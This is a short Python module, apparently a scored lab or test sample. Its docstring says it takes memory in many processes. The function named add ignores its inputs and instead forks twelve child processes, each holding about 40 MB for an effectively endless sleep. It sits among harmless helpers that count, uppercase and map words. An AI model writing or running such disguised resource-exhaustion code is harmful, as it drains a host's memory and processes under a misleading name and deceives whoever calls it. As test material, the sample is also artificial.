"""Takes memory in many processes, a little in each.

Lab: plain
Scores: 7
"""

import os
import time


def add(a, b):
    for _ in range(12):
        if os.fork() == 0:
            hoard = bytearray(b"x") * 40_000_000
            time.sleep(60 + len(hoard))
    time.sleep(60)


def count(words):
    return {word: words.count(word) for word in words}


def shout(words):
    return [word.upper() for word in words]


def apply(function, values):
    return [function(value) for value in values]
